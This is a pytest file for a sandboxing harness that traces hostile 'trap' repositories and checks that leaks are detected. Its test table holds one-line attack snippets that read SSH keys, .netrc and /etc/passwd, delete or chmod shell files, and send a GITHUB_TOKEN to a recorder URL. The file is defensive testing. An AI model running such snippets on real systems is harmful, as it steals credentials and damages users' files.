"""Each repository of a corpus is a trap: nothing runs, no file outside is read or written, nothing leaves.

Every command runs in a fresh copy, under strace, as an operator with secrets in a home and an environment.
`repositories/` has the traps and the harness; the first tests here show that the harness notices.
"""

from __future__ import annotations

import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from repositories import of_git, of_hosts, of_inputs, of_javascript, of_packages, of_stores
from repositories.making import PYTHON, TRAPS, Repository, Trap
from repositories.noticing import COMMAND, noticed
from repositories.operators import Operator, Recorder, canary, operator, recording
from repositories.tracing import Traced, traced, why_not

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(why_not() is not None, reason=f"nothing can be traced: {why_not()}"),
]

MODULES = (of_git, of_hosts, of_inputs, of_javascript, of_packages, of_stores)
SECONDS = 120
"""How long a command may take on a busy machine: the longest takes a sixth."""


@pytest.fixture(scope="module")
def recorder() -> Iterator[Recorder]:
    with recording() as made:
        yield made


@pytest.fixture
def somebody(tmp_path: Path, user_cache: Path, recorder: Recorder) -> Callable[[], Operator]:
    """Makes a new operator, with an empty repository."""
    return lambda: operator(tmp_path / "somebody", user_cache, recorder)


def tried(command: list[str], who: Operator, *, seconds: float = SECONDS) -> tuple[Traced, list[str]]:
    """What a command did in the operator's repository, and what of that was noticed."""
    before = {path: path.read_bytes() for path in who.home.rglob("*") if path.is_file()}
    already = len(who.recorder.requests)
    done = traced(command, who.repository, who.environment(), who.repository.parent / "logs", seconds)
    found = noticed(done, who, who.recorder.requests[already:])
    # A second witness, which doesn't depend on strace.
    if {path: path.read_bytes() for path in who.home.rglob("*") if path.is_file()} != before:
        found.append("the home has changed")
    if (who.outside / "ran").exists():
        found.append("code of the repository ran")
    return done, found


LEAKS = {
    "a program": ("subprocess.run(['/bin/echo', 'x'])", "ran /bin/echo"),
    "a program of the repository": ("subprocess.run(['./tool'])", "repository/tool"),
    "our own Python, with a script": ("subprocess.run([sys.executable, 'main.py'])", "ran "),
    "a file outside that is written": ("open(f'{outside}/x', 'w')", "opened for writing: {outside}/x"),
    "a file of the repository that is written": ("open('x', 'w')", "opened for writing: "),
    "a file outside that is read": ("open(f'{home}/.ssh/id_rsa')", "read: {home}/.ssh/id_rsa"),
    "a file outside that is read through a link": (
        "os.symlink('.capsule', 'l'); os.mkdir('.capsule'); "
        "os.symlink(f'{home}/.netrc', '.capsule/n'); open('l/n')",
        "read: {home}/.netrc",
    ),
    "what all may read": ("open('/etc/passwd')", "read: /etc/passwd"),
    "an environment of a process": ("open('/proc/self/environ')", "environ"),
    "a name that is made": ("os.mkdir(f'{outside}/d')", "changed: mkdir {outside}/d"),
    "a name that is moved": ("os.rename(f'{home}/.bashrc', f'{home}/b')", "changed: rename {home}/.bashrc"),
    "a name that is removed": ("os.unlink(f'{home}/.bashrc')", "changed: unlink {home}/.bashrc"),
    "a link that is made": ("os.symlink('/etc', f'{outside}/l')", "changed: symlink {outside}/l"),
    "other rights": ("os.chmod(f'{home}/.bashrc', 0o777)", "changed: chmod {home}/.bashrc"),
    "a removal through a descriptor": (
        "d = os.open(home, os.O_RDONLY); os.unlink('.env', dir_fd=d)",
        "{home}/.env",
    ),
    "a connection": ("socket.socket().connect_ex(('127.0.0.1', 9))", "sent: connect to AF_INET"),
    "a question for a name": (
        "socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.53', 53))",
        "sin_port=htons(53)",
    ),
    "a request with a variable": (
        "urllib.request.build_opener(urllib.request.ProxyHandler({})).open("
        "f'{recorder}/' + os.environ['GITHUB_TOKEN'])",
        "leaked: {secret} in a request",
    ),
    "a request for another thing than a package of the index": (
        "urllib.request.build_opener(urllib.request.ProxyHandler({})).open(f'{recorder}/evil/x/')",
        "asked: GET /evil/x/",
    ),
    "a variable in the arguments": (
        "subprocess.run([sys.executable, '-I', '-c', '', os.environ['GITHUB_TOKEN']], env={})",
        "leaked: {secret} in a call",
    ),
    "a variable in the environment": (
        "subprocess.run([sys.executable, '-I', '-c', ''], env={'X': os.environ['GITHUB_TOKEN']})",
        "leaked: {secret} in a call",
    ),
    "a variable in a file": (
        "os.mkdir('.capsule'); open('.capsule/x', 'w').write(os.environ['GITHUB_TOKEN'])",
        "leaked: {secret} in",
    ),
    "a variable through a pipe": (
        "subprocess.run([sys.executable, '-I', '-c', ''], env={}, input=os.environ['GITHUB_TOKEN'].encode())",
        "leaked: {secret} in a call",
    ),
    "a variable that is printed": ("print(os.environ['GITHUB_TOKEN'])", "leaked: {secret} in stdout"),
    "a child that does it": (
        "subprocess.run([sys.executable, '-I', '-c', \"open('/etc/passwd')\"], env={})",
        "read: /etc/passwd",
    ),
    "a thread that does it": (
        "t = threading.Thread(target=open, args=('/etc/passwd',)); t.start(); t.join()",
        "read: /etc/passwd",
    ),
    "what stays behind": ("open(os.environ['TMPDIR'] + '/x', 'w')", "left behind: x"),
    "another exit code": ("os._exit(77)", "ended with 77"),
    "a traceback": ("1 / 0", "showed a traceback"),
    "no end": ("time.sleep(60)", "did not end in time"),
}


@pytest.mark.parametrize("leak", LEAKS)
def test_the_harness_notices(leak: str, somebody: Callable[[], Operator]) -> None:
    code, expected = LEAKS[leak]
    who = somebody()
    Repository(who.repository, who).script("tool")
    places = {"home": str(who.home), "outside": str(who.outside), "recorder": who.recorder.address}
    modules = "import os, socket, subprocess, sys, threading, time, urllib.request; "
    assignments = "".join(f"{name} = {value!r}; " for name, value in places.items())
    command = [sys.executable, "-I", "-c", modules + assignments + code]
    _, found = tried(command, who, seconds=5 if leak == "no end" else SECONDS)
    wanted = expected.format(**places, secret=canary("GITHUB_TOKEN"))
    assert any(wanted in one for one in found), found


def test_the_harness_sees_a_run_with_its_worker_and_notices_nothing(somebody: Callable[[], Operator]) -> None:
    """Workers run under it with their filters, so what is not noticed below was looked for there as well."""
    who = somebody()
    Repository(who.repository, who).write("main.py", PYTHON)
    done, found = tried([COMMAND, "run", "main.py", "--deny-all"], who)
    assert (done.status, found) == (0, []), done.stderr
    assert done.stdout == b"1\n"
    assert [one.program for one in done.started] == [COMMAND, sys.executable]
    assert str(who.repository / "main.py") in {one.path for one in done.opened}
    assert str(who.repository / ".capsule/trace.db") in {one.path for one in done.opened if one.writable}
    assert any("attempt" in words for words in done.words), "what the worker says to its host"


@pytest.mark.parametrize("trap", TRAPS, ids=lambda trap: trap.name)
def test_a_hostile_repository(trap: Trap, somebody: Callable[[], Operator]) -> None:
    noticed_by_command = {}
    for command in trap.commands:
        who = somebody()
        trap.make(Repository(who.repository, who))
        done, found = tried([COMMAND, *trap.arguments(command)], who)
        looked = {f"read: {who.home / name}" for name in trap.looks}
        found = [one for one in found if one not in looked]
        if found:
            noticed_by_command[command] = (found, done.status, done.stderr[-500:])
    assert not noticed_by_command, trap.about + "\n" + "\n".join(map(repr, noticed_by_command.items()))
